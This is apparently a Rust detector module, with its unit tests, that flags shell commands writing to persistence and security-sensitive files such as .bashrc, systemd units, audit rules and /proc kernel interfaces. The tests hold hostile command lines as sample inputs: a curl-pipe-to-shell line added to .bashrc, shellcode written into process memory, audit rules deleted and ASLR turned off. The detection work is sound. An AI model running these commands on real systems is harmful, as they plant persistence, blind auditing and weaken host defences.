//! Files whose writing is a behaviour (`knowledge/data/written_paths.toml`): shell start-up
//! files, systemd units, PAM, audit and logging configuration, `/proc/sys/kernel`, the SysRq
//! trigger, another process's memory, the kernel's tracing and security interfaces. A write
//! is a redirect, `tee`, `cp`/`mv`/`install`/`ln`/`rsync` targets, `dd of=`, `sed -i`/`perl -i`
//! or `truncate`. The text written, when the command line holds it, is judged by the other
//! detectors as a carried command line (`shell::carry`).
//!
//! Cron, authorized_keys, accounts, sudoers and `/etc/ld.so.preload` have their own detectors
//! with more to say; the table's entries for them raise the same signals, so whichever runs
//! first gives the evidence.

use super::{write_targets, Ctx, Findings};
use crate::knowledge::written_path;

pub fn wants(cx: &Ctx) -> bool {
    cx.may_write()
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    for c in cx.commands() {
        for target in write_targets(c) {
            if let Some(w) = written_path(target) {
                out.hit(
                    w.signal,
                    format!("{} writes {target} ({})", c.program(), w.what),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;

    #[test]
    fn fires_on_writes_to_behaviour_files() {
        let sh = |s: &str| run(detect, &["sh", "-c", s]);
        assert_eq!(
            sh("echo 'curl x|sh' >> /root/.bashrc"),
            ["shell_profile_modification"]
        );
        assert_eq!(sh("echo b > /proc/sysrq-trigger"), ["sysrq_trigger"]);
        assert_eq!(
            run(detect, &["dd", "if=/tmp/sc", "of=/proc/1234/mem", "bs=1"]),
            ["process_memory_write"]
        );
        assert_eq!(
            run(
                detect,
                &["sed", "-i", "/^-w /d", "/etc/audit/rules.d/audit.rules"]
            ),
            ["logging_config_tampering"]
        );
        assert_eq!(
            run(
                detect,
                &["cp", "/tmp/x.service", "/etc/systemd/system/x.service"]
            ),
            ["systemd_unit_write"]
        );
        assert_eq!(
            sh("echo 0 > /proc/sys/kernel/randomize_va_space"),
            ["kernel_tunable_write"]
        );
    }

    #[test]
    fn quiet_on_reads_and_ordinary_files() {
        assert!(run(detect, &["cat", "/root/.bashrc"]).is_empty());
        assert!(run(detect, &["sh", "-c", "echo x > /tmp/.bashrc.d/y"]).is_empty());
        assert!(run(detect, &["sh", "-c", "cat /proc/1/mem > /dev/null"]).is_empty());
        assert!(run(detect, &["cp", "/etc/profile", "/tmp/profile.bak"]).is_empty());
    }
}
